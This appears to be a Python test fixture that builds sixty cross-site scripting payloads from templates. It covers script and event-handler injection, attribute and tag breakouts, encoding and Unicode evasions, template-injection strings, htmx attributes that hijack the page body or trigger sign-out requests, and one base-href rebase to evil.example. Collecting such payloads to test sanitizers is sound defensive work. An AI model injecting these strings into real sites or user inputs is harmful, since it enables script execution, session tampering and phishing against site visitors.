"""60 texts that want to be run by whatever shows them."""

RUN = "alert(1)"
MARKUP = (
    "<script>{run}</script>", "</script><script>{run}</script>", "<script src='data:text/javascript,{run}'></script>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<body onload={run}>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src='javascript:{run}'></iframe>",
    "<a href='javascript:{run}' autofocus onfocus={run} tabindex=0>x</a>", "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<object data='javascript:{run}'></object>",
    "<style>@import 'javascript:{run}'</style>", "<link rel=stylesheet href='data:text/css,*{{background:red}}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<base href='https://evil.example/'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>", "<!--><img src=x onerror={run}>-->", "<form action='javascript:{run}'><button>x",
)  # fmt: skip
# What the page's own library would obey.
LIBRARY = (
    "<hx-partial hx-target='body' hx-swap='innerHTML'><img src=x onerror={run}></hx-partial>",
    "<div hx-get='/sign-in' hx-trigger='load' hx-target='body'></div>", "<div hx-on:htmx:load='{run}'></div>",
    "<div hx-sse:connect='/live' hx-trigger='load'></div>", "<template hx type=partial hx-target='#main'>gone</template>",
    "<div hx-vals='js:{{x: {run}}}' hx-post='/sign-out' hx-trigger='load'></div>", "<head><title>taken</title></head>",
)  # fmt: skip
BREAKOUTS = (
    "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>", "\" onmouseover={run} x=\"", "' onfocus={run} autofocus x='",
    "`${{{run}}}`", "</textarea><img src=x onerror={run}>", "</title><img src=x onerror={run}>", "</style><img src=x onerror={run}>",
    "</tr></table><img src=x onerror={run}>", "</pre></code><script>{run}</script>", "javascript:{run}", "]]><script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}", "{{% raw %}}<script>{run}</script>", "{{{{ 7*7 }}}}",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "&lt;img src=x onerror={run}&gt;", "%3Cimg src=x onerror={run}%3E",
    "\ndata: <script>{run}</script>\n\n", "\r\n\r\nevent: ended\r\ndata: x\r\n\r\n",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{run}",
    "\N{RIGHT-TO-LEFT OVERRIDE}>{run}<tpircs", "<IMG SRC=x ONERROR={run}>", "<scr\tipt>{run}</scr\tipt>", "<svg/onload={run}>",
)  # fmt: skip
SEPARATED = ("</script/>{run}<script>", "<script\t>{run}</script>", "<img/src=x/onerror={run}>", "<img\tsrc=x\tonerror={run}>")
PAYLOADS = [template.format(run=RUN) for template in (*MARKUP, *LIBRARY, *BREAKOUTS, *SEPARATED)]
